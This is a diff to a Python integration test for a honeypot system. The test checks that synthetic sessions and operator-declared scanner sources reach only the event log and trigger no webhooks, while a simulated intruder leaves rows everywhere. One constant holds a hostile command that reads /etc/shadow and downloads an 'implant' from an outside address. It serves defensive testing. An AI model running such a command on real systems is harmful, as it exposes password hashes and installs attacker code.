@@ -1,5 +1,8 @@
 # SPDX-License-Identifier: MIT
-"""What the orchestrator causes is in the event log and nowhere else, while a real attacker beside it is everywhere."""
+"""What the orchestrator causes, and what known sources do, is in the event log and nowhere else.
+
+A real attacker beside them is everywhere.
+"""
 
 from __future__ import annotations
 
@@ -7,6 +10,7 @@ import asyncio
 import contextlib
 import socket
 import sqlite3
+import sys
 from pathlib import Path
 
 import asyncssh
@@ -19,6 +23,8 @@ from decnet_core.state import State
 
 PEER = "127.66.9.9"
 """Where the synthetic sessions come from."""
+SCANNER = "127.66.8.8"
+"""A source that the operator has said is his own."""
 ATTACK = "cat /etc/shadow; wget http://192.0.2.9/implant"
 KNOWS_SOURCES = {"attacker", "attacker_session", "credential_use", "ttp_tag", "notice"}
 """Tables in which an attacker who logs in and does ATTACK leaves rows, beside the event log."""
@@ -77,27 +83,32 @@ def cursors_behind(arena: Arena) -> int:
         return int(
             last
             - (
-                connection.execute("SELECT min(seq) FROM worker_cursor WHERE worker IN ('profiler', 'ttp')").fetchone()[
-                    0
-                ]
+                connection.execute(
+                    "SELECT min(seq) FROM worker_cursor WHERE worker IN ('profiler', 'ttp', 'clusterer')"
+                ).fetchone()[0]
                 or 0
             )
         )
 
 
-async def test_a_synthetic_session_reaches_no_table_but_the_log_and_no_webhook(tmp_path: Path) -> None:
+async def test_synthetic_sessions_and_known_sources_reach_no_table_but_the_log_and_no_webhook(tmp_path: Path) -> None:
     assert {"profiler", "ttp", "webhook", "ingest"} <= set(worker_registry.wanted(DEFAULTS))
     arena = Arena(tmp_path)
     async with arena.running():
+        known = ("known", "add", "127.66.8.0/24", "--label", "scanner")
+        added = await asyncio.create_subprocess_exec(sys.executable, "-m", "decnet", *known, env=arena.environment)
+        assert await added.wait() == 0
         for visit in (browse, intrude):
             await visit(arena, PEER, f"life-{visit.__name__}")
+            await visit(arena, SCANNER, None)
             await visit(arena, SOURCE, None)
         async with asyncio.timeout(60):
             while not {"ttp.tagged", "attacker.observed"} <= {each.kind for each in arena.receiver.arrivals}:
                 arena.receiver.arrived.clear()
                 await arena.receiver.arrived.wait()
-            while not mentioning(arena, PEER) or cursors_behind(arena):
+            while not (mentioning(arena, PEER) and mentioning(arena, SCANNER)) or cursors_behind(arena):
                 await asyncio.sleep(0.05)
         assert mentioning(arena, SOURCE) >= KNOWS_SOURCES
         assert mentioning(arena, PEER) == {"event"}
-        assert all(PEER not in str(each.data) for each in arena.receiver.arrivals)
+        assert mentioning(arena, SCANNER) == {"event", "artifact_sighting"}  # its session is recorded, too
+        assert not any({PEER, SCANNER} & set(map(str, each.data.values())) for each in arena.receiver.arrivals)
